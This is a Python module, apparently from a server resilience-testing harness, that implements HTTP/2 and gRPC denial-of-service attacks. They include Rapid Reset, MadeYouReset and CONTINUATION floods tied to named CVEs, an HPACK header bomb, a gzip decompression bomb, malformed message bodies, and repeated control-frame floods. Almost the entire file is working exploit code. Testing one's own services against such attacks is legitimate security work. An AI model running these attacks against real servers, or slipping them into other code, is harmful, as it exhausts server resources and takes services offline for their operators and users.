"""Attacks by frames that cost the sender nothing: how each connection begins, and what is sent on
it over and over."""

import gzip
import os

from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)
from wire import ECHO, Wire, message

# Steps send this many frames at a time, and then look whether they were refused.
BATCH = 50


def opened(attacker) -> Wire:
    return Wire(attacker.port, attacker.tls)


def opened_with_stream(attacker) -> Wire:
    """With a call under way: the beginning of a message of 4 MB, on stream 1."""
    wire = opened(attacker)
    begun = DataFrame(1, message(b"")[:1] + (4_000_000).to_bytes(4, "big"))
    wire.send(wire.headers().serialize() + begun.serialize())
    return wire


def repeating(frame) -> object:
    batch = frame.serialize() * BATCH

    def step(attacker, wire) -> None:
        wire.send(batch)
        wire.frames(0.001)

    return step


def rapid_reset(attacker, wire) -> None:
    """CVE-2023-44487: calls that are cancelled in the same breath."""
    data = b""
    for _ in range(BATCH):
        head = wire.headers()
        data += head.serialize() + RstStreamFrame(head.stream_id, error_code=8).serialize()
    wire.send(data)
    wire.frames(0.001)


def made_reset(attacker, wire) -> None:
    """CVE-2025-8671: three ways to have the server reset a stream that we then open again."""
    data = b""
    for turn in range(BATCH):
        extra = [("content-length", "3")] if turn % 3 == 0 else []
        extra = [("Upper", "case")] if turn % 3 == 1 else extra
        head = wire.headers(wire.head(extra=extra))
        data += head.serialize()
        if turn % 3 == 0:
            data += DataFrame(head.stream_id, b"longer", flags=["END_STREAM"]).serialize()
        if turn % 3 == 2:
            window = WindowUpdateFrame(head.stream_id, window_increment=2**31 - 1)
            data += window.serialize()
    wire.send(data)
    wire.frames(0.001)


def continuation(attacker, wire) -> None:
    """CVE-2024-28182: a header block without an end."""
    head = wire.headers(flags=())
    more = ContinuationFrame(head.stream_id, b"\x00\x01a\x01b").serialize() * BATCH
    wire.send(head.serialize() + more)
    wire.frames(0.001)


def header_bomb(attacker, wire) -> None:
    """A few bytes that stand for many: one field of 4,000 bytes named a hundred times."""
    field = ("x-bomb", "b" * 3_900)
    head = wire.headers([*wire.head(), field])
    block = head.data + b"\xbe" * 100
    wire.send(HeadersFrame(head.stream_id, block, flags=["END_HEADERS"]).serialize())
    wire.frames(0.001)


def decompression_bomb(attacker, wire) -> None:
    fields, _ = wire.call(ECHO, BOMB, [("grpc-encoding", "gzip")])
    attacker.answers[fields["grpc-status"]] += 1


def malformed(attacker, wire) -> None:
    """Message bytes that are no protobuf, and prefixes that are no prefix."""
    body = os.urandom(40) if os.urandom(1)[0] & 1 else message(os.urandom(64))
    fields, _ = wire.call(ECHO, body)
    attacker.answers[fields["grpc-status"]] += 1


# 32 MiB of zeros in 32 KB.
BOMB = message(gzip.compress(bytes(32 * 1_024 * 1_024)), compressed=1)
PRIORITY = PriorityFrame(1, depends_on=3, stream_weight=1)
SETTINGS = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535})

ALL = {
    "rapid_reset": (opened, rapid_reset),
    "made_reset": (opened, made_reset),
    "continuation": (opened, continuation),
    "header_bomb": (opened, header_bomb),
    "ping": (opened, repeating(PingFrame(0, b"12345678"))),
    "settings": (opened, repeating(SETTINGS)),
    "priority": (opened, repeating(PRIORITY)),
    "window_update": (opened_with_stream, repeating(WindowUpdateFrame(1, window_increment=1))),
    "empty_data": (opened_with_stream, repeating(DataFrame(1, b""))),
    "tiny_data": (opened_with_stream, repeating(DataFrame(1, b"x"))),
    "decompression_bomb": (opened, decompression_bomb),
    "malformed": (opened, malformed),
}
